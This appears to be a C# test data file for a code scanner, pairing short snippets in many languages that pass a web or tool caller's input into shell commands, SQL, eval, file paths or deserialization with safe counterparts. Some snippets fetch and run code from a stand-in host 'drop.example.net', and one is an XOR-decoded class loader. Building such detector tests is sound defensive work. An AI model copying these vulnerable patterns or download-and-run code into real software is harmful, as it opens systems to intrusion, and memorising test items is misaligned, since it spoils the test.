namespace Symbiont.Scanning.Tests.Code.Lexical;

/// <summary>A caller's data in a command, a query, code, a path or an address, in each language and its frameworks, directly and through functions of the file; and honest code that comes near.</summary>
internal static class CallerDataCases
{
    public static TheoryData<string, string, string> Harmful => new()
    {
        // Through a function that hands its parameter on.
        { "a.go", "code-command-injection", "package main\nfunc run(line string) string {\n\tout, _ := exec.Command(\"sh\", \"-c\", line).Output()\n\treturn string(out)\n}\nfunc h(w http.ResponseWriter, r *http.Request) {\n\trun(\"ls \" + r.FormValue(\"d\"))\n}\n" },
        { "a.go", "code-command-injection", "package main\nfunc handle(ctx context.Context, request mcp.CallToolRequest) (*mcp.CallToolResult, error) {\n\thost := request.GetString(\"host\", \"\")\n\tcmd := exec.Command(\"bash\", \"-c\", \"ping -c 1 \"+host)\n\treturn out(cmd.Output())\n}\n" },
        { "a.go", "code-sql-injection", "package main\nfunc find(name string) {\n\tq := fmt.Sprintf(\"SELECT * FROM t WHERE n = '%s'\", name)\n\tdb.Query(q)\n}\nfunc h(c *gin.Context) {\n\tfind(c.Query(\"n\"))\n}\n" },
        { "a.go", "code-path-read", "package main\nfunc load(p string) []byte {\n\tb, _ := os.ReadFile(\"/data/\" + p)\n\treturn b\n}\nfunc h(w http.ResponseWriter, r *http.Request) {\n\tw.Write(load(r.URL.Query().Get(\"p\")))\n}\n" },
        { "a.rs", "code-command-injection", "fn run(line: &str) -> String {\n    let o = Command::new(\"sh\").arg(\"-c\").arg(line).output();\n    o\n}\n#[get(\"/ping/{host}\")]\nasync fn ping(host: web::Path<String>) -> String {\n    run(&format!(\"ping {}\", host))\n}\n" },
        { "a.rs", "code-command-injection", "#[tool(description = \"Shows a log\")]\nasync fn show(&self, Parameters(req): Parameters<ShowRequest>) -> String {\n    let line = format!(\"git log {}\", req.branch);\n    Command::new(\"bash\").arg(\"-c\").arg(&line).output();\n}\n" },
        { "A.java", "code-command-injection", "class A {\n  String run(String line) throws IOException {\n    return read(Runtime.getRuntime().exec(new String[] {\"sh\", \"-c\", line}));\n  }\n  @Tool(description = \"Pings\")\n  public String ping(String host) {\n    return run(\"ping \" + host);\n  }\n}\n" },
        { "A.java", "code-sql-injection", "class A {\n  @GetMapping(\"/find\")\n  public List<P> find(String name) {\n    return jdbc.queryForList(\"select * from p where name = '\" + name + \"'\");\n  }\n}\n" },
        { "A.java", "code-injection", "class A {\n  Object eval(String text) { return engine.eval(text); }\n  void doGet(HttpServletRequest request) { eval(request.getParameter(\"x\")); }\n}\n" },
        { "A.java", "code-unsafe-deserialization", "class A { void doPost(HttpServletRequest request) { Object o = new ObjectInputStream(request.getPart(\"f\").getInputStream()).readObject(); } }\n" },
        { "a.kt", "code-command-injection", "fun run(line: String): String {\n  return ProcessBuilder(\"sh\", \"-c\", line).start().text()\n}\nfun main() {\n  server.addTool(\"ping\") { request ->\n    run(\"ping ${request.arguments[\"host\"]}\")\n  }\n}\n" },
        { "a.scala", "code-command-injection", "def run(line: String) = Runtime.getRuntime.exec(Array(\"sh\", \"-c\", line))\ndef ping = Action { request =>\n  run(\"ping \" + request.queryString(\"host\"))\n}\n" },
        { "a.cs", "code-command-injection", "static class T {\n  static string Run(string line) { return Process.Start(\"/bin/sh\", $\"-c \\\"{line}\\\"\").ToString(); }\n  [McpServerTool, Description(\"Pings\")]\n  public static string Ping(string host) => Run(\"ping \" + host);\n}\n" },
        { "a.cs", "code-path-read", "static class T {\n  [McpServerTool]\n  public static string Show(string path) { return File.ReadAllText(\"/data/\" + path); }\n}\n" },
        { "a.cs", "code-sql-injection", "public class C : ControllerBase {\n  [HttpGet(\"find\")]\n  public string Find(string name) { var c = new SqlCommand($\"select * from t where n = '{name}'\", db); return c.ExecuteScalar(); }\n}\n" },
        { "a.php", "code-command-injection", "<?php\nfunction run($line) {\n  return shell_exec($line);\n}\n$app->get('/x', function ($request) {\n  return run('ping ' . $request->get('host'));\n});\n" },
        { "a.php", "code-command-injection", "<?php\nclass Ping {\n  #[McpTool]\n  public function ping(string $host): string {\n    return shell_exec(\"ping -c 1 $host\");\n  }\n}\n" },
        { "a.php", "code-sql-injection", "<?php\nfunction show(Request $request) {\n  $id = $request->input('id');\n  return DB::select(\"select * from t where id = $id\");\n}\n" },
        { "a.rb", "code-command-injection", "def run(line)\n  `#{line}`\nend\n\nget '/x' do\n  run \"ping #{params[:host]}\"\nend\n" },
        { "a.rb", "code-command-injection", "class Ping < MCP::Tool\n  def self.call(host:, server_context:)\n    out = `ping -c 1 #{host}`\n    MCP::Tool::Response.new([{ type: 'text', text: out }])\n  end\nend\n" },
        { "a.rb", "code-sql-injection", "class A < ApplicationController\n  def show\n    User.where(\"select name = '#{params[:name]}'\")\n  end\nend\n" },
        { "a.pl", "code-command-injection", "use CGI;\nsub run {\n  my ($line) = @_;\n  return `$line`;\n}\nmy $h = $q->param('h');\nrun(\"ping $h\");\n" },
        { "a.lua", "code-command-injection", "local function run(line)\n  return io.popen(line):read('*a')\nend\nlocal h = ngx.req.get_uri_args().h\nrun('ping ' .. h)\n" },
        { "a.swift", "code-path-delete", "func remove(path: String) {\n  try FileManager.default.removeItem(atPath: path)\n}\napp.get(\"x\") { req in\n  remove(path: req.query[\"p\"])\n}\n" },
        { "a.dart", "code-command-injection", "Future<String> run(String line) async {\n  return Process.run('sh', ['-c', line]);\n}\nhandler(Request request) {\n  return run('ping ' + request.url.queryParameters['host']);\n}\n" },
        { "a.ex", "code-command-injection", "defmodule T do\n  def run(line) do\n    System.cmd(\"sh\", [\"-c\", line])\n  end\n\n  def show(conn, params) do\n    run(\"ping #{params[\"host\"]}\")\n  end\nend\n" },
        { "a.ex", "code-injection", "defmodule T do\n  def show(conn, _) do\n    Code.eval_string(conn.params[\"x\"])\n  end\nend\n" },
        { "a.r", "code-command-injection", "run <- function(line) {\n  system(line)\n}\nserver <- function(input, output) {\n  run(paste0(\"ping \", input$host))\n}\n" },
        { "a.jl", "code-injection", "function handle(req::HTTP.Request)\n  q = queryparams(req)\n  return eval(Meta.parse(queryparams(req)[\"x\"]))\nend\n" },
        { "a.ps1", "code-injection", "function Invoke-Line {\n  param([string]$line)\n  Invoke-Expression $line\n}\n$request = $context.Request\nInvoke-Line $request.QueryString['x']\n" },
        { "a.c", "code-command-injection", "void run(const char *line) {\n  system(line);\n}\nint main() {\n  char b[99];\n  sprintf(b, \"ping %s\", getenv(\"QUERY_STRING\"));\n  char *q = getenv(\"QUERY_STRING\");\n  run(q);\n}\n" },
        { "a.cpp", "code-command-injection", "std::string run(std::string line) {\n  popen(line.c_str(), \"r\");\n}\nint main() {\n  svr.Get(\"/x\", [](const Request &req, Response &res) { run(req.get_param_value(\"h\")); });\n}\n" },
        // A source that is a function of the file.
        { "a.go", "code-command-injection", "package main\nfunc name(r *http.Request) string {\n\treturn r.FormValue(\"n\")\n}\nfunc h(w http.ResponseWriter, r *http.Request) {\n\tn := name(r)\n\texec.Command(\"sh\", \"-c\", \"ls \"+n).Run()\n}\n" },
        // Two steps.
        { "a.php", "code-injection", "<?php\nfunction inner($c) { eval($c); }\nfunction outer($c) { inner($c); }\nouter($_POST['c']);\n" },
        // A file of tools, and functions that another file offers as tools.
        { "a.rs", "code-command-injection", "fn shell(line: &str) -> String {\n    Command::new(\"/bin/sh\").arg(\"-c\").arg(line).output()\n}\nfn list() -> Value { json!([{\"name\": \"words\", \"inputSchema\": {}}]) }\npub fn call(name: &str, arguments: Value) -> String {\n    let c: Count = serde_json::from_value(arguments).unwrap();\n    shell(&format!(\"wc -w {}\", c.file))\n}\n" },
        { "a.rs", "code-command-injection", "pub fn size(source: &str) -> String {\n    Command::new(\"sh\").args([\"-c\", &format!(\"identify {source}\")]).output()\n}\n" },
        { "a.kt", "code-command-injection", "fun sh(line: String): String {\n  return ProcessBuilder(\"/bin/bash\", \"-c\", line).start().text()\n}\nfun main() {\n  post(\"/print\") {\n    val p = call.receiveParameters()\n    call.respondText(sh(\"lp -n ${p[\"n\"]}\"))\n  }\n}\n" },
        { "A.java", "code-obfuscated-execution", "class A extends ClassLoader {\n  Class<?> f(byte[] rest) {\n    for (int i = 0; i < rest.length; i++) { rest[i] ^= (byte) (i * 31 + 7); }\n    return defineClass(null, rest, 0, rest.length);\n  }\n}\n" },
        // Where what is asked for stands in the head, or is handed on by a pipe.
        { "a.rs", "code-sql-injection", "pub async fn find(Query(s): Query<Find>) -> String {\n    let sql = format!(\"select id from t where n = '{}'\", s.name);\n    sqlx::query(&sql).fetch_all(&db).await\n}\n" },
        { "a.ex", "code-injection", "defmodule T do\n  use Phoenix.LiveView\n  def handle_event(\"x\", %{\"f\" => formula}, socket) do\n    {v, _} = Code.eval_string(formula)\n    {:noreply, v}\n  end\nend\n" },
        { "a.ex", "code-injection", "defmodule T do\n  use Phoenix.LiveView\n  def handle_event(\"x\", %{\"m\" => name, \"f\" => f}, socket) do\n    apply(String.to_atom(name), f, [])\n  end\nend\n" },
        { "a.ex", "code-unsafe-deserialization", "get \"/p\" do\n  f =\n    conn.query_params[\"f\"]\n    |> Base.url_decode64!()\n    |> :erlang.binary_to_term()\n  send(f)\nend\n" },
        // Functions that another file calls: what they put between the quotes of a statement is most likely a caller's.
        { "A.java", "code-sql-injection", "public class User {\n  public static User fetch(String un) {\n    String q = \"select * from users where name = '\" + un + \"' limit 1\";\n    return read(stmt.executeQuery(q));\n  }\n}\n" },
        { "a.go", "code-sql-injection", "package a\nfunc (p *P) Find(name string) error {\n\trows, err := p.db.Query(fmt.Sprintf(\"SELECT a FROM b WHERE c = '%s'\", name))\n\treturn err\n}\n" },
        { "a.cs", "code-sql-injection", "public class A {\n  public string Login(string mail) {\n    var da = new SqliteDataAdapter($\"select * from c where mail = '{mail}'\", connection);\n    return null;\n  }\n}\n" },
        { "a.php", "code-sql-injection", "<?php\nclass A {\n  public function find($name) { return $this->db->query(\"SELECT * FROM a WHERE n = '\" . $name . \"'\"); }\n}\n" },
        { "A.java", "code-command-injection", "public class V {\n  public static String run(String c) throws Exception {\n    return Runtime.getRuntime().exec(new String[] {\"sh\", \"-c\", \"ls \" + c}).toString();\n  }\n}\n" },
        // What one function has checked is as it came in another.
        { "a.php", "code-command-injection", "<?php\nfunction one() {\n  if (!in_array($_GET['n'], ['a', 'b'])) return;\n  echo shell_exec(\"run \" . $_GET['n']);\n}\nfunction two() {\n  echo shell_exec(\"run \" . $_GET['n']);\n}\n" },
        // A method that a caller names, a template that he writes, a command in marked brackets.
        { "a.rb", "code-injection", "require 'sinatra'\nget '/x' do\n  Report.new.public_send(params['m'] || 'rows', 1)\nend\n" },
        { "a.rb", "code-sql-injection", "class P < ApplicationController\n  def index\n    @p = Plan.where(\"parcel like '%#{params[:p]}%'\")\n  end\nend\n" },
        { "a.rb", "code-command-injection", "get '/x' do\n  n = params[:n]\n  out = %x{host #{n}}\nend\n" },
        { "a.pl", "code-command-injection", "use CGI;\nmy $h = $q->param('h');\nprint qx{host $h};\n" },
        { "a.php", "code-injection", "<?php\nfunction view(Request $p) {\n  $d = $p->getParsedBody();\n  return $this->twig->createTemplate($d['text'])->render($d);\n}\n" },
        // A list of arguments with a shell among them, and a program that is told to use one.
        { "a.scala", "code-command-injection", "object W {\n  def lookup(name: String): String =\n    Seq(\"sh\", \"-c\", s\"whois $name | head\").!!\n}\n" },
        { "a.dart", "code-command-injection", "import 'package:shelf/shelf.dart';\nhandler(Request r) async {\n  final q = r.url.queryParameters;\n  await Process.run('ffmpeg -i ${q['f']} out.mp4', const [], runInShell: true);\n}\n" },
        { "a.kt", "code-request-forgery", "val client = HttpClient(CIO)\nfun main() {\n  get(\"/card\") {\n    val url = call.request.queryParameters[\"url\"]\n    val page = client.get(url)\n  }\n}\n" },
        // Dots that are taken out once come back, and a name that is cut for the log is no check.
        { "a.go", "code-path-read", "package main\nfunc h(w http.ResponseWriter, r *http.Request) {\n\tn := strings.ReplaceAll(r.URL.Query().Get(\"n\"), \"../\", \"\")\n\tfull := filepath.Join(root, n)\n\tf, _ := os.Open(full)\n\tlog.Print(filepath.Base(full), f)\n}\n" },
        { "a.aspx.cs", "code-command-injection", "public partial class P : Page {\n  void Run() {\n    var p = new Process();\n    p.StartInfo.FileName = \"cmd.exe\";\n    p.StartInfo.Arguments = \"/c \" + txtLine.Text;\n    p.Start();\n  }\n}\n" },
        // What came over the network, run in another function.
        { "a.go", "code-download-and-run", "package main\nvar target = \"/tmp/agent\"\nfunc fetch() {\n\tresp, _ := http.Get(\"http://drop.example.net/agent\")\n\tdata, _ := io.ReadAll(resp.Body)\n\tos.WriteFile(\"/tmp/agent\", data, 0755)\n}\nfunc start() {\n\texec.Command(\"/tmp/agent\").Start()\n}\n" },
        { "a.cs", "code-download-and-run", "class P {\n  byte[] Get() { return client.GetByteArrayAsync(\"https://drop.example.net/p.dll\").Result; }\n  void Run() { var bytes = Get(); Assembly.Load(bytes).EntryPoint.Invoke(null, null); }\n}\n" },
        { "A.java", "code-download-and-run", "class A extends ClassLoader {\n  byte[] get() throws IOException { return new URL(\"http://drop.example.net/A.class\").openStream().readAllBytes(); }\n  void run() throws Exception { byte[] b = get(); defineClass(\"A\", b, 0, b.length); }\n}\n" },
        { "a.r", "code-download-and-run", "get <- function(u) {\n  readLines(url(\"http://drop.example.net/x.R\"))\n}\neval(parse(text = get(1)))\n" },
        { "a.jl", "code-download-and-run", "text = String(HTTP.get(\"https://drop.example.net/x.jl\").body)\ninclude_string(Main, text)\n" },
        { "a.ex", "code-download-and-run", "body = Req.get!(\"https://drop.example.net/x.exs\").body\nCode.eval_string(body)\n" },
    };

    public static TheoryData<string, string> Honest => new()
    {
        // What is chosen from a list is the program's own.
        { "a.go", "package main\nvar probes = map[string][]string{\"disk\": {\"df\"}}\nfunc h(c *gin.Context) {\n\targv, ok := probes[c.PostForm(\"probe\")]\n\tif !ok {\n\t\treturn\n\t}\n\texec.Command(argv[0], argv[1:]...).Run()\n}\n" },
        { "a.php", "<?php\n$sort = ['date' => 'due', 'nr' => 'nr'][$_GET['sort'] ?? 'date'] ?? 'due';\n$pdo->prepare(\"SELECT nr FROM t ORDER BY \" . $sort);\n" },
        { "a.ex", "defmodule T do\n  @order %{\"name\" => :name}\n  def index(conn, params) do\n    order = Map.get(@order, params[\"order\"], :name)\n    Repo.query!(\"select id from t order by #{order}\")\n  end\nend\n" },
        { "A.java", "class A {\n  @PostMapping\n  String read(@RequestParam String field) throws Exception {\n    if (!FIELDS.contains(field)) return null;\n    return xpath.evaluate(\"//\" + field, doc);\n  }\n}\n" },
        { "a.php", "<?php\n$lang = in_array($_COOKIE['lang'] ?? '', ['en', 'fr'], true) ? $_COOKIE['lang'] : 'en';\ninclude \"lang/$lang.php\";\n" },
        { "a.php", "<?php\nif (in_array($_POST['delete'] ?? '', $_SESSION['mine'], true)) {\n  unlink('/srv/p/' . $_POST['delete']);\n}\n" },
        { "a.rs", "pub async fn find(Query(s): Query<Find>) -> String {\n    let order = match s.order.as_deref() { Some(\"title\") => \"title\", _ => \"year\" };\n    let sql = format!(\"select id from t where n = $1 order by {order}\");\n    sqlx::query(&sql).bind(s.name).fetch_all(&db).await\n}\n" },
        // What is bound, a number, or for the program itself.
        { "A.java", "public class User {\n  public static User fetch(String un) {\n    var q = c.prepareStatement(\"select * from users where name = ? and kind = 'a'\");\n    q.setString(1, un);\n    return read(q.executeQuery());\n  }\n}\n" },
        { "a.php", "<?php\nclass A {\n  public function find($name) { $name = (int) $name; return $this->db->query(\"SELECT * FROM a WHERE n = '\" . $name . \"'\"); }\n}\n" },
        { "A.java", "public class User {\n  private static User fetch(String un) {\n    return read(stmt.executeQuery(\"select * from users where name = '\" + un + \"'\"));\n  }\n}\n" },
        { "A.java", "public class A {\n  public void load(String file) {\n    stmt.executeUpdate(\"CREATE TABLE t AS SELECT * FROM read_parquet('\" + file + \"')\");\n  }\n}\n" },
        // Where an upload lies for the time being is the server's choice.
        { "a.php", "<?php\nif (isset($_FILES['track'])) {\n  $text = file_get_contents($_FILES['track']['tmp_name']);\n  $doc = simplexml_load_string($text);\n}\n" },
        // What is bound beside a statement is no part of it.
        { "a.pl", "use CGI ':standard';\nmy $n = param('n');\nmy $s = $db->selectall_arrayref('select n from t where n like ?', undef, \"%$n%\");\n" },
        // A format, a number, a block that is evaluated, a reader that builds no objects.
        { "a.pl", "use CGI;\nmy ($no) = $q->param('no') =~ /\\A(\\d{1,3})\\z/;\nopen(my $w, '<', \"/srv/psalms/$no\");\n" },
        { "a.lua", "app:get('/x', function(self)\n  local v = self.params.v:match(\"^%d+%.%d+$\")\n  io.popen('zip game-' .. v .. '.zip .')\nend)\n" },
        { "a.pl", "use Mojolicious::Lite;\npost '/x' => sub ($c) {\n  my $o = eval { decode_json(decode_base64($c->param('d'))) } or return;\n};\n" },
        { "a.rb", "require 'net/http'\ndef flags\n  YAML.load(Net::HTTP.get(URI(url)), permitted_classes: [Symbol])\nend\n" },
        { "a.kt", "class C {\n  @PostMapping\n  fun probe(@RequestParam rule: String): Any? {\n    val context = SimpleEvaluationContext.forReadOnlyDataBinding().build()\n    return parser.parseExpression(rule).getValue(context)\n  }\n}\n" },
        { "a.go", "package main\nfunc run(args ...string) {\n\texec.Command(\"git\", args...).Run()\n}\nfunc h(w http.ResponseWriter, r *http.Request) {\n\trun(\"log\", r.FormValue(\"b\"))\n}\n" },
        { "a.go", "package main\nfunc find(name string) {\n\tdb.Query(\"SELECT * FROM t WHERE n = $1\", name)\n}\nfunc h(c *gin.Context) {\n\tfind(c.Query(\"n\"))\n}\n" },
        { "a.go", "package main\nfunc run(line string) {\n\texec.Command(\"sh\", \"-c\", line).Run()\n}\nfunc main() {\n\trun(\"make all\")\n\thttp.ListenAndServe(\":1\", nil)\n}\nfunc h(w http.ResponseWriter, r *http.Request) {\n\tfmt.Fprint(w, r.FormValue(\"x\"))\n}\n" },
        { "a.go", "package main\nfunc count(n string) int {\n\ti, _ := strconv.Atoi(n)\n\treturn i\n}\nfunc h(w http.ResponseWriter, r *http.Request) {\n\texec.Command(\"sh\", \"-c\", fmt.Sprintf(\"head -n %d x\", count(r.FormValue(\"n\")))).Run()\n}\n" },
        { "a.rs", "#[get(\"/log/{branch}\")]\nasync fn log(branch: web::Path<String>) -> String {\n    Command::new(\"git\").arg(\"log\").arg(branch.as_str()).output()\n}\n" },
        { "A.java", "class A {\n  @Tool(description = \"Finds\")\n  public List<P> find(String name) {\n    return jdbc.queryForList(\"select * from p where name = ?\", name);\n  }\n}\n" },
        { "A.java", "class A {\n  @Tool(description = \"Shows\")\n  public String show(String name) {\n    Path p = base.resolve(name).normalize();\n    if (!p.startsWith(base)) throw new E();\n    return Files.readString(p);\n  }\n}\n" },
        { "a.kt", "fun show(call: Call) {\n  val n = call.parameters[\"n\"]!!.toInt()\n  val p = ProcessBuilder(\"git\", \"show\", \"HEAD~$n\").start()\n}\n" },
        { "a.cs", "static class T {\n  [McpServerTool]\n  public static string Log(string branch) { var p = new ProcessStartInfo(\"git\") { ArgumentList = { \"log\", branch } }; return Run(p); }\n}\n" },
        { "a.cs", "static class T {\n  [McpServerTool]\n  public static string Show(string path) { var full = Path.GetFullPath(path); if (!full.StartsWith(Root)) throw new E(); return File.ReadAllText(full); }\n}\n" },
        { "a.php", "<?php\nfunction run($host) {\n  return shell_exec('ping ' . escapeshellarg($host));\n}\nrun($_GET['host']);\n" },
        { "a.php", "<?php\nfunction show(Request $request) {\n  return DB::select('select * from t where id = ?', [$request->input('id')]);\n}\n" },
        { "a.rs", "pub fn size(source: &str) -> String {\n    Command::new(\"identify\").arg(source).output()\n}\n" },
        { "a.rs", "pub fn run() -> String {\n    let n = 4;\n    Command::new(\"sh\").args([\"-c\", &format!(\"make -j{n}\")]).output()\n}\n" },
        { "a.rb", "class Ping < MCP::Tool\n  def self.call(host:, server_context:)\n    out, _ = Open3.capture2('ping', '-c', '1', host)\n    out\n  end\nend\n" },
        { "a.pl", "use CGI;\nsub run {\n  my ($host) = @_;\n  system('ping', '-c', '1', $host);\n}\nrun($q->param('h'));\n" },
        { "a.dart", "Future<String> log(Request request) async {\n  return Process.run('git', ['log', request.url.queryParameters['branch']]);\n}\n" },
        { "a.ex", "defmodule T do\n  def show(conn, params) do\n    System.cmd(\"git\", [\"log\", params[\"branch\"]])\n  end\nend\n" },
        { "a.r", "server <- function(input, output) {\n  output$x <- renderText(paste(\"Hello\", input$name))\n  system2(\"git\", c(\"status\"))\n}\n" },
        { "a.ps1", "function Get-Log {\n  param([string]$branch)\n  git log $branch\n}\nGet-Log main\n" },
        { "a.cs", "class P {\n  async Task Run() { var bytes = await client.GetByteArrayAsync(url); if (!SHA256.HashData(bytes).SequenceEqual(Expected)) throw new E(); Assembly.Load(bytes); }\n}\n" },
        { "a.go", "package main\nfunc fetch() {\n\tresp, _ := http.Get(\"https://data.example.org/list.json\")\n\tdata, _ := io.ReadAll(resp.Body)\n\tos.WriteFile(\"/tmp/list.json\", data, 0644)\n}\nfunc start() {\n\texec.Command(\"git\", \"status\").Start()\n}\n" },
    };
}
